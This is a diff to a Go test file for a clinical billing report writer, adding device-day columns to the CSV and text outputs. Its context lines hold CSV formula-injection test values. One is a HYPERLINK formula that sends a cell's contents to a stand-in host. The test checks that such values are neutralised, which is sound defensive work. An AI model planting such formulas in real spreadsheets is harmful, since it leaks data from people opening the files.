@@ -35,11 +35,35 @@ func TestWriteCSVMakesFormulasInert(t *testing.T) {
 	want := map[string]string{
 		"patient": `'=HYPERLINK("http://evil.example/?"&A1,"Open")`, "billing_npi": "'@SUM(1+1)", "reasons": "'+cmd",
 		"seconds": "1260", "minutes": "21", "amount": "66.13", "codes": "99490x1", "next_code": "99439", "next_minutes": "19",
-		"uncounted_seconds": "600", "next_needs": "",
+		"uncounted_seconds": "600", "next_needs": "", "days": "", "next_device_code": "", "next_device_days": "",
 	}
 	for col, w := range want {
 		if got[col] != w {
 			t.Errorf("%s = %q, want %q", col, got[col], w)
 		}
+	}
+}
+
+// An RPM row's days with device data and next device code reach the CSV's last columns and
+// the text report.
+func TestWriteDeviceDays(t *testing.T) {
+	days := 10
+	rep := MonthReport{Report: Report{Month: "2026-03", Timezone: "America/New_York", Rows: []Row{
+		{Patient: "P3", Program: care.RPM, Status: Billable, Days: &days, Codes: []CodeLine{{Code: Code99445, Units: 1, AmountCents: 4743}},
+			AmountCents: 4743, Reasons: []Reason{}, DeviceNext: &DeviceNext{Code: Code99454, DaysNeeded: 6}},
+	}}}
+	var b strings.Builder
+	if err := WriteCSV(&b, rep); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.HasSuffix(b.String(), ",10,99454,6\n") {
+		t.Errorf("CSV = %q", b.String())
+	}
+	b.Reset()
+	if err := WriteText(&b, rep); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(b.String(), "0:00, 10 days of data") || !strings.Contains(b.String(), "99454 in 6 days of data") {
+		t.Errorf("text:\n%s", b.String())
 	}
 }
